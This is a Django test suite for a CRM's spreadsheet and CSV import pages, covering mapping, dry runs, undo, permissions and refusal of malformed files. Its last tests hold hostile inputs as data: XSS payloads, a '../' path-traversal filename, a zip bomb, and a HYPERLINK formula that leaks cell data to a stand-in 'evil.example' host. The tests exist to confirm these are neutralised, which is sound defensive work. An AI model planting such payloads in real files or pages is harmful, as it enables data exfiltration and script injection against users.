"""The import pages as a user meets them: upload, map, check, import, undo, templates, progress,
who may see and do what, and files that are not what they claim to be."""

from __future__ import annotations

import html
import io
import re
import time
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from python_calamine import CalamineWorkbook

from kartoteka.accounts.models import Role
from kartoteka.clients.models import Client
from kartoteka.transfer import importer
from kartoteka.transfer.models import ImportJob, ImportTemplate
from tests.conftest import make_user
from tests.transfer.files import write_xlsx, zip_bomb

HEADERS = "Фамилия;Имя;Отчество;Телефон;E-mail;ИНН;Компания;Должность;Дата рождения"
CSV = (
    f"{HEADERS}\n"
    "Иванов;Иван;Иванович;8 (916) 123-45-67;Ivanov@Example.RU ;500100732259;ООО «Ромашка»;"
    "Генеральный директор;01.02.1980\n"
    "Петрова;Анна;;+7 903 765 43 21, 8-903-765-43-22;anna@example.ru;;Ромашка;"
    "Главный бухгалтер;1985-03-04\n"
)
SUGGESTED = [
    "last_name",
    "first_name",
    "middle_name",
    "phone",
    "email",
    "inn",
    "company",
    "position",
    "birthday",
]
BAD_ROW = "Сидоров;Пётр;;12345;;;;;\n"

SELECT_RE = re.compile(r'<select[^>]*name="(col_\d+)"[^>]*>(.*?)</select>', re.S)
OPTION_RE = re.compile(r'<option value="([^"]*)"( selected)?>')
LABEL_RE = re.compile(r'<label for="col_\d+">([^<]*)</label>')


def text(response) -> str:  # type: ignore[no-untyped-def]
    return html.unescape(response.content.decode())


def chosen(response) -> list[str]:  # type: ignore[no-untyped-def]
    """The field selected in each column's <select>, in column order."""
    found = []
    for _name, body in SELECT_RE.findall(response.content.decode()):
        selected = [value for value, mark in OPTION_RE.findall(body) if mark]
        assert len(selected) <= 1
        found.append(selected[0] if selected else "")
    return found


def upload(client, data: bytes, name: str = "clients.csv", entity: str = "persons"):  # type: ignore[no-untyped-def]
    file = SimpleUploadedFile(name, data, content_type="application/octet-stream")
    return client.post(reverse("imports"), {"entity": entity, "file": file})


def uploaded(client, data: bytes, name: str = "clients.csv") -> ImportJob:  # type: ignore[no-untyped-def]
    response = upload(client, data, name)
    assert response.status_code == 302, text(response)
    job = ImportJob.objects.latest("pk")
    assert response["Location"] == reverse("import_job", args=[job.pk])
    return job


def form(job: ImportJob, action: str, mapping: list[str] | None = None, **extra: str):
    data = {f"col_{i}": key for i, key in enumerate(mapping or job.mapping)}
    data.update(action=action, on_duplicate="skip", **extra)
    return data


def run(client, job, capture, action: str = "import", **extra):  # type: ignore[no-untyped-def]
    """Post the mapping form; the import runs (ImmediateBackend) when the request commits."""
    with capture(execute=True):
        response = client.post(reverse("import_run", args=[job.pk]), form(job, action, **extra))
    assert response.status_code == 302
    assert response["Location"] == reverse("import_job", args=[job.pk])
    job.refresh_from_db()
    return client.get(response["Location"])


def test_upload_page_lists_the_entities_and_past_imports(alice_client):
    response = alice_client.get(reverse("imports"))
    assert response.status_code == 200
    options = re.findall(r'<option value="(\w+)">', response.content.decode())
    assert options == ["persons", "companies", "interactions", "purchases"]
    page = text(response)
    assert 'type="file" name="file"' in page and "No imports yet." in page


def test_upload_shows_headers_first_values_and_suggested_fields(alice_client, alice):
    job = uploaded(alice_client, CSV.encode("cp1251"))
    assert (job.user, job.format, job.encoding, job.status) == (alice, "csv", "cp1251", "uploaded")
    assert not Client.objects.exists()
    page = alice_client.get(reverse("import_job", args=[job.pk]))
    assert page.status_code == 200
    assert LABEL_RE.findall(text(page)) == HEADERS.split(";")
    assert chosen(page) == SUGGESTED
    body = text(page)
    for first_value in ("Иванов", "Петрова", "8 (916) 123-45-67", "500100732259", "01.02.1980"):
        assert f"<div>{first_value}</div>" in body
    assert 'value="check"' in body and 'value="import"' in body
    # The list of imports shows it.
    assert "clients.csv" in text(alice_client.get(reverse("imports")))


def test_check_is_a_dry_run_showing_the_sample_and_the_problems(
    alice_client, django_capture_on_commit_callbacks, tmp_path
):
    job = uploaded(alice_client, (CSV + BAD_ROW).encode("cp1251"))
    page = run(alice_client, job, django_capture_on_commit_callbacks, action="check")
    assert (job.status, job.dry_run, job.created, job.rejected) == ("checked", True, 3, 1)
    assert not Client.objects.exists()
    body = text(page)
    assert "checked (dry run)" in body
    assert "The check found: 3 to create, 0 to update, 0 to skip, 1 rejected." in body
    assert "Nothing has been written." in body
    sample = body.split('id="sample"')[1].split("</table>")[0]
    assert "Иванов Иван Иванович" in sample and "+79161234567" in sample
    assert "+79037654321, +79037654322" in sample
    problems = body.split('id="problems"')[1].split("</table>")[0]
    assert re.search(r"<td>4</td><td>phone</td><td>[^<]*12345", problems), problems
    # The mapping form stays, to fix and run again.
    assert chosen(page) == SUGGESTED


def test_import_then_undo(alice_client, django_capture_on_commit_callbacks):
    job = uploaded(alice_client, CSV.encode("cp1251"))
    page = run(alice_client, job, django_capture_on_commit_callbacks)
    assert (job.status, job.created) == ("done", 3), job.problems
    body = text(page)
    assert "Created 3, updated 0, skipped 0, rejected 0." in body
    assert "Undo this import" in body
    assert 'id="mapping"' not in body  # an imported file cannot be run again
    assert set(Client.objects.values_list("name", flat=True)) == {
        "Иванов Иван Иванович",
        "Петрова Анна",
        "ООО Ромашка",
    }
    # The button asks first (htmx's hx-confirm: the CSP forbids inline handlers).
    undo = reverse("import_undo", args=[job.pk])
    form_tag = re.search(rf'<form[^>]*action="{undo}"[^>]*>', page.content.decode())
    assert form_tag and "hx-confirm=" in form_tag[0] and "onsubmit" not in form_tag[0]
    # A refused run leaves the imported job's mapping as it was imported.
    again = alice_client.post(
        reverse("import_run", args=[job.pk]), form(job, "import", ["first_name", "last_name"])
    )
    assert "This file has been imported already." in text(alice_client.get(again["Location"]))
    job.refresh_from_db()
    assert job.mapping == SUGGESTED and Client.objects.count() == 3
    response = alice_client.post(reverse("import_undo", args=[job.pk]), follow=True)
    assert response.status_code == 200
    assert "Undone: 3 deleted, 0 moved to the trash, 0 restored" in text(response)
    assert not Client.all_objects.exists()
    job.refresh_from_db()
    assert job.status == "undone" and job.undone_at is not None
    assert "Undo this import" not in text(response)
    # Undoing twice says so and changes nothing; through htmx the page is told to reload.
    again = alice_client.post(reverse("import_undo", args=[job.pk]), headers={"HX-Request": "true"})
    assert again.status_code == 200
    assert again["HX-Redirect"] == reverse("import_job", args=[job.pk])
    page = text(alice_client.get(again["HX-Redirect"]))
    assert "Only a finished import can be undone." in page


def test_all_or_nothing_rejects_the_file_with_a_bad_row(
    alice_client, django_capture_on_commit_callbacks
):
    job = uploaded(alice_client, (CSV + BAD_ROW).encode("cp1251"))
    page = run(alice_client, job, django_capture_on_commit_callbacks)
    assert (job.status, job.rejected) == ("rejected", 1)
    assert not Client.objects.exists()
    assert "Nothing was imported: 1 rows have errors." in text(page)
    assert 'id="mapping"' in text(page)


def test_partial_import_gives_the_rejected_rows_as_xlsx(
    alice_client, django_capture_on_commit_callbacks
):
    job = uploaded(alice_client, (CSV + BAD_ROW).encode("cp1251"))
    page = run(alice_client, job, django_capture_on_commit_callbacks, partial="on")
    assert (job.status, job.atomic, job.created, job.rejected) == ("done", False, 3, 1)
    link = reverse("import_rejected", args=[job.pk])
    assert f'href="{link}"' in page.content.decode()
    response = alice_client.get(link)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f'filename="rejected-rows-{job.pk}.xlsx"' in response["Content-Disposition"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(response.streaming_content)))
    rows = book.get_sheet_by_index(0).to_python()
    assert rows[0] == ["Row", *HEADERS.split(";"), "Why it was rejected"]
    assert len(rows) == 2
    assert rows[1][:3] == [4, "Сидоров", "Пётр"]
    assert rows[1][4] == "12345" and rows[1][-1].startswith("phone: ")


def test_a_saved_template_maps_the_next_file(
    alice_client, alice, django_capture_on_commit_callbacks
):
    headers = ["Кто", "Куда звонить", "Куда писать"]
    first = ";".join(headers) + "\nИванов;89161234567;a@example.ru\n"
    job = uploaded(alice_client, first.encode())
    assert job.mapping == ["", "", ""]  # nothing known about these headers
    mapping = ["last_name", "phone", "email"]
    with django_capture_on_commit_callbacks(execute=True):
        alice_client.post(
            reverse("import_run", args=[job.pk]),
            form(job, "check", mapping, template="  Мой   шаблон "),
        )
    template = ImportTemplate.objects.get(user=alice)
    assert template.name == "Мой шаблон" and template.entity == "persons"
    assert template.mapping == dict(zip(headers, mapping, strict=True))
    # The same headers in another order.
    second = "Куда писать;Кто;Куда звонить\nb@example.ru;Петров;89031234567\n"
    next_job = uploaded(alice_client, second.encode(), "second.csv")
    assert next_job.mapping == ["email", "last_name", "phone"]
    assert chosen(alice_client.get(reverse("import_job", args=[next_job.pk]))) == [
        "email",
        "last_name",
        "phone",
    ]


def test_progress_refreshes_the_page_when_not_running(alice_client):
    job = uploaded(alice_client, CSV.encode())
    response = alice_client.get(reverse("import_progress", args=[job.pk]))
    assert response.status_code == 200 and response["HX-Refresh"] == "true"
    assert response.content == b""
    # Queued, before the worker has written any progress: a bar at zero.
    ImportJob.objects.filter(pk=job.pk).update(status="queued")
    response = alice_client.get(reverse("import_progress", args=[job.pk]))
    assert "HX-Refresh" not in response
    body = text(response)
    assert '<progress class="w-100 mb-2" id="progress-bar" aria-label' in body  # no end known
    assert ">0 rows<" in body and "left" not in body


def _running(job: ImportJob, **progress: float) -> None:
    ImportJob.objects.filter(pk=job.pk).update(status="running")
    importer.job_dir(job).mkdir(parents=True, exist_ok=True)
    importer._write_json(importer.job_dir(job) / "progress.json", progress)


def test_progress_shows_the_bar_and_the_time_left_while_running(alice_client):
    job = uploaded(alice_client, CSV.encode())
    now = time.time()
    _running(job, done=500, total=2000, started=now - 10, at=now)
    response = alice_client.get(reverse("import_progress", args=[job.pk]))
    assert response.status_code == 200 and "HX-Refresh" not in response
    body = text(response)
    assert '<progress class="w-100 mb-2" id="progress-bar" value="500" max="2000"' in body
    assert "style=" not in body  # the CSP allows no inline style
    assert "500 of about 2000 rows · about 30 s left" in body
    assert f'hx-get="{reverse("import_progress", args=[job.pk])}"' in body
    # The job page shows the same bar and a cancel button, and no mapping form.
    page = text(alice_client.get(reverse("import_job", args=[job.pk])))
    assert "500 of about 2000 rows" in page and ">Cancel</button>" in page
    assert 'id="mapping"' not in page


def test_progress_past_the_estimated_total_shows_rows_only(alice_client):
    job = uploaded(alice_client, CSV.encode())
    now = time.time()
    _running(job, done=4000, total=1, started=now - 10, at=now)
    body = text(alice_client.get(reverse("import_progress", args=[job.pk])))
    assert ">4000 rows<" in body and "of about" not in body and "left" not in body
    assert 'value="4000"' not in body


def test_progress_says_when_the_run_stopped_answering(alice_client):
    job = uploaded(alice_client, CSV.encode())
    long_ago = time.time() - 3600
    _running(job, done=10, total=100, started=long_ago - 5, at=long_ago)
    body = text(alice_client.get(reverse("import_progress", args=[job.pk])))
    assert "The import stopped answering: its process was interrupted." in body
    assert "cancel it, then run it again" in body
    assert "progress-bar" not in body
    # Cancelling a stale run marks it cancelled at once.
    response = alice_client.post(reverse("import_cancel", args=[job.pk]), follow=True)
    job.refresh_from_db()
    assert job.status == "cancelled"
    assert "cancelled" in text(response)


def test_cancel_of_a_finished_import_says_it_is_not_running(alice_client):
    job = uploaded(alice_client, CSV.encode())
    response = alice_client.post(reverse("import_cancel", args=[job.pk]), follow=True)
    assert "The import is not running." in text(response)
    job.refresh_from_db()
    assert job.status == "uploaded"


def _done_job(client, capture) -> ImportJob:  # type: ignore[no-untyped-def]
    job = uploaded(client, (CSV + BAD_ROW).encode())
    run(client, job, capture, partial="on")
    assert job.status == "done"
    return job


def test_another_manager_gets_404_on_every_page_of_the_job(
    client, alice, bob, django_capture_on_commit_callbacks
):
    client.force_login(alice)
    job = _done_job(client, django_capture_on_commit_callbacks)
    client.force_login(bob)
    for name in ("import_job", "import_progress", "import_rejected"):
        assert client.get(reverse(name, args=[job.pk])).status_code == 404, name
    for name in ("import_run", "import_cancel", "import_undo"):
        response = client.post(reverse(name, args=[job.pk]), form(job, "import"))
        assert response.status_code == 404, name
    assert "clients.csv" not in text(client.get(reverse("imports")))
    job.refresh_from_db()
    assert job.status == "done" and Client.objects.count() == 3


def test_an_admin_sees_the_job_but_cannot_run_or_undo_it(
    client, alice, admin, django_capture_on_commit_callbacks
):
    client.force_login(alice)
    job = _done_job(client, django_capture_on_commit_callbacks)
    waiting = uploaded(client, CSV.encode(), "waiting.csv")
    client.force_login(admin)
    page = client.get(reverse("import_job", args=[job.pk]))
    assert page.status_code == 200
    assert "Created 3, updated 0, skipped 0, rejected 1." in text(page)
    assert "Undo this import" not in text(page)  # not offered to someone who cannot do it
    assert client.get(reverse("import_rejected", args=[job.pk])).status_code == 200
    listing = text(client.get(reverse("imports")))
    assert "clients.csv" in listing and "waiting.csv" in listing and "<td>Alice</td>" in listing
    assert client.post(reverse("import_undo", args=[job.pk])).status_code == 403
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(reverse("import_run", args=[waiting.pk]), form(waiting, "import"))
    assert response.status_code == 403 and callbacks == []
    assert 'id="mapping"' not in text(client.get(reverse("import_job", args=[waiting.pk])))
    waiting.refresh_from_db()
    job.refresh_from_db()
    assert (job.status, waiting.status) == ("done", "uploaded")
    assert Client.objects.count() == 3


def test_a_role_that_may_not_create_clients_is_told_so_on_upload(client, db):
    analyst = make_user("anna", role="analyst")
    assert Role.objects.get(code="analyst").grants.get(kind="client", action="create").scope == 0
    client.force_login(analyst)
    response = upload(client, CSV.encode())
    assert response.status_code == 403
    assert "Your role may not create these records." in text(response)
    assert not ImportJob.objects.exists()


def test_a_marketer_may_import_persons_but_not_interactions(client, db):
    marketer = make_user("mark", role="marketer")
    client.force_login(marketer)
    refused = upload(
        client, "Дата;Телефон\n01.02.2024;89161234567\n".encode(), "i.csv", "interactions"
    )
    assert refused.status_code == 403
    assert "Your role may not create these records." in text(refused)
    assert not ImportJob.objects.exists()
    assert upload(client, CSV.encode()).status_code == 302


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("empty.csv", b"", "The file is empty."),
        ("header.csv", (HEADERS + "\n").encode("cp1251"), "The file has a header but no rows."),
        (
            "picture.csv",
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),
            "This file is not a CSV file: it looks like a PNG image.",
        ),
    ],
)
def test_a_bad_file_gets_a_clear_message_and_no_job(alice_client, media, name, data, message):
    response = upload(alice_client, data, name)
    assert response.status_code == 200
    assert message in text(response)
    assert 'role="status"' in response.content.decode()
    assert not ImportJob.objects.exists()
    assert not list(Path(media, "imports").glob("*/*"))


def test_a_zip_bomb_named_xlsx_is_refused(alice_client, tmp_path, media):
    bomb = zip_bomb(tmp_path, megabytes=2000)
    response = upload(alice_client, bomb.read_bytes(), "clients.xlsx")
    assert response.status_code == 200
    assert "The file is damaged or too large when unpacked." in text(response)
    assert not ImportJob.objects.exists()
    assert not list(Path(media, "imports").glob("*/*"))


def test_an_xlsx_header_only_file_is_refused(alice_client, tmp_path):
    path = write_xlsx(tmp_path, [["Фамилия", "Имя"]])
    response = upload(alice_client, path.read_bytes(), "clients.xlsx")
    assert "The file has a header but no rows." in text(response)
    assert not ImportJob.objects.exists()


def test_no_file_or_no_entity(alice_client):
    response = alice_client.post(reverse("imports"), {"entity": "persons"})
    assert response.status_code == 200 and "Choose a file." in text(response)
    file = SimpleUploadedFile("clients.csv", CSV.encode())
    response = alice_client.post(reverse("imports"), {"entity": "deals", "file": file})
    assert "Choose what to import." in text(response)
    assert not ImportJob.objects.exists()


def test_a_bad_mapping_is_refused_with_a_message(alice_client, django_capture_on_commit_callbacks):
    job = uploaded(alice_client, CSV.encode())
    twice = ["last_name", "last_name", *SUGGESTED[2:]]
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = alice_client.post(
            reverse("import_run", args=[job.pk]), form(job, "import", twice), follow=True
        )
    assert callbacks == []
    assert "A field other than phones, e-mails and tags fits one column." in text(response)
    response = alice_client.post(
        reverse("import_run", args=[job.pk]),
        form(job, "import", ["nope", *SUGGESTED[1:]]),
        follow=True,
    )
    assert "There is no field nope." in text(response)
    job.refresh_from_db()
    assert (job.status, job.mapping) == ("uploaded", SUGGESTED)
    assert not Client.objects.exists()


XSS = '"><img src=x onerror=alert(1)>'


def test_file_names_headers_and_cells_are_shown_as_text(
    alice_client, django_capture_on_commit_callbacks
):
    data = 'Фамилия;<svg onload=alert(1)>\n"""><img src=x onerror=alert(1)>";x\n'.encode()
    response = upload(alice_client, data, f"../{XSS}.csv")
    job = ImportJob.objects.get()
    assert response["Location"] == reverse("import_job", args=[job.pk])
    assert job.filename == f"{XSS}.csv"  # no directory part survives
    assert importer.source_path(job).read_bytes() == data
    run(alice_client, job, django_capture_on_commit_callbacks, action="check")
    for page in (
        alice_client.get(reverse("import_job", args=[job.pk])),
        alice_client.get(reverse("imports")),
    ):
        raw = page.content.decode()
        assert "<img src=x" not in raw and "<svg onload" not in raw
        assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in raw
    assert Client.objects.count() == 0


def test_the_rejected_rows_file_neutralises_formulas(
    alice_client, django_capture_on_commit_callbacks
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data = f"Фамилия;Телефон\nИванов;89161234567\n{hostile};12345\n".encode()
    job = uploaded(alice_client, data)
    run(alice_client, job, django_capture_on_commit_callbacks, partial="on")
    assert (job.created, job.rejected) == (1, 1)
    response = alice_client.get(reverse("import_rejected", args=[job.pk]))
    book = CalamineWorkbook.from_filelike(io.BytesIO(b"".join(response.streaming_content)))
    rows = book.get_sheet_by_index(0).to_python()
    assert rows[1][:3] == [3, "'" + hostile, "12345"]
